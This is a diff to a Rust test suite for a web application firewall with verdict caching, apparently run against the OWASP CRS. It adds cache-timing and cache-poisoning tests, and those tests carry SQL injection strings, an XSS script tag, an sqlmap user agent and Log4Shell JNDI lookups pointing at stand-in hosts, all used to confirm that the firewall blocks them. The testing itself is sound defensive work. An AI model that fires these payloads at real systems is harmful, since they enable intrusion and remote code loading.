@@ -43,18 +43,22 @@ SecRule REQUEST_HEADERS "@contains evil" "id:102,phase:1,pass,log"
 "#;
 
 const METHODS: [&str; 4] = ["GET", "GET", "HEAD", "POST"];
-const TARGETS: [&str; 8] = ["/", "/a", "/a?x=1", "/a?x=evil", "/A", "/a?clock=1", "*", "/a?x=1&x=1"];
+const TARGETS: [&str; 9] =
+    ["/", "/a", "/a?x=1", "/a?x=evil", "/A", "/a?clock=1", "*", "/a?x=1&x=1", "/a?x=1%27%20or%201=1--"];
 const SCHEMES: [&str; 2] = ["http", "https"];
 const HOSTS: [&str; 3] = ["shop.example", "shop.example:8443", "192.0.2.1"];
 const PROTOCOLS: [&str; 3] = ["HTTP/1.1", "HTTP/1.0", "HTTP/2.0"];
 const ADDRS: [&str; 4] = ["192.0.2.7", "198.51.100.9", "::1", ""];
 const PORTS: [u16; 3] = [0, 1, 8443];
 /// Headers a request may carry, each on or off, in this order or turned around.
-const HEADERS: [(&str, &str); 22] = [
+const HEADERS: [(&str, &str); 25] = [
     ("User-Agent", "fine"),
     ("User-Agent", "evil"),
+    ("User-Agent", "sqlmap/1.5"),
     ("Referer", "fine"),
     ("Referer", "evil"),
+    ("Referer", "<script>alert(1)</script>"),
+    ("X-Anything", "${jndi:ldap://evil/x}"),
     ("Cookie", "a=b"),
     ("Cookie", "a=evil"),
     ("Authorization", "Bearer evil"),
@@ -295,11 +299,11 @@ fn what_is_never_cached() {
 #[test]
 fn verdicts_are_forgotten_in_time_and_on_reload() {
     let mut policy = quiet(true);
-    policy.cache.ttl = Duration::from_millis(60);
+    policy.cache.ttl = Duration::from_millis(500);
     let service = service(RULES, policy);
     let cached = || with_headers(&service, &[]).cached;
     assert_eq!([cached(), cached()], [false, true]);
-    std::thread::sleep(Duration::from_millis(90));
+    std::thread::sleep(Duration::from_millis(700));
     assert_eq!([cached(), cached()], [false, true]);
     assert_eq!(service.reload(), Ok(2));
     assert_eq!([cached(), cached()], [false, true]);
@@ -425,4 +429,65 @@ fn classes_of_headers() {
     let long = format!("{}-token", "x".repeat(100));
     assert_eq!(cache.class(long.as_bytes()), Class::Never);
     assert_eq!(Bypass::ALL.map(|reason| reason as usize), std::array::from_fn(|index| index));
+}
+
+#[test]
+fn another_connection_of_the_same_client_finds_the_verdict() {
+    let without_ports = RULES.lines().filter(|line| !line.contains("REMOTE_PORT")).collect::<Vec<_>>().join("\n");
+    for (rules, found) in [(RULES, false), (without_ports.as_str(), true)] {
+        let service = service(rules, quiet(true));
+        let from = |port| {
+            let remote_addr = Some([192, 0, 2, 7].into());
+            service.decide(&call(Request { remote_addr, remote_port: port, ..Request::default() })).cached
+        };
+        assert_eq!([from(1000), from(1000), from(2000)], [false, true, found]);
+    }
+}
+
+/// The same under the CRS, in which rules read a request in every way there is.
+#[test]
+fn under_the_crs() {
+    let shared = std::env::var("PORTCULLIS_SHARED")
+        .unwrap_or_else(|_| concat!(env!("CARGO_MANIFEST_DIR"), "/../shared").to_owned());
+    let crs = format!("{shared}/crs/4.28.0");
+    if !std::path::Path::new(&crs).is_dir() {
+        println!("SKIPPED: there is no CRS at {crs}");
+        return;
+    }
+    let with = |cache| {
+        let mut policy = Policy { rules: Some(format!("crs@{crs}")), ..quiet(cache) };
+        policy.crs.detection_paranoia = Some(4);
+        Service::new(crate::service::testing::config(policy)).unwrap()
+    };
+    let (cached, fresh) = (with(true), with(false));
+    poisoning_under_the_crs(&cached);
+    let steps: Vec<(usize, usize)> = (0..50).map(|step: usize| (step * 7919 % 1013, step * 104_729 % 997)).collect();
+    let hits = run_stream(&steps, &cached, &fresh, || {});
+    println!("under the CRS: {hits} of 100 requests answered from the cache");
+    assert!(hits > 5, "{hits}");
+}
+
+fn poisoning_under_the_crs(service: &Service) {
+    let browser = [("Host", "shop.example"), ("User-Agent", "Mozilla/5.0"), ("Accept", "*/*")];
+    let sends = |name, value| {
+        let mut headers = browser.to_vec();
+        headers.retain(|(known, _)| *known != name);
+        headers.push((name, value));
+        with_headers(service, &headers)
+    };
+    let attacks = [
+        ("Cookie", "sid=1", "sid=1' or '1'='1' --"),
+        ("Referer", "https://shop.example/", "https://shop.example/?q=<script>alert(1)</script>"),
+        ("User-Agent", "Mozilla/5.0", "${jndi:ldap://203.0.113.9/a}"),
+        ("X-Arbitrary", "1", "${jndi:ldap://203.0.113.9/a}"),
+        ("X-Request-Id", "1", "${jndi:ldap://203.0.113.9/a}"),
+    ];
+    for (name, clean, attack) in attacks {
+        let first = sends(name, clean);
+        assert_eq!((status(&first), status(&sends(name, clean))), (200, 200), "{name}: {first:?}");
+        for _ in 0..2 {
+            assert_eq!(status(&sends(name, attack)), 403, "{name}");
+        }
+        assert_eq!(status(&sends(name, clean)), 200, "{name}");
+    }
 }
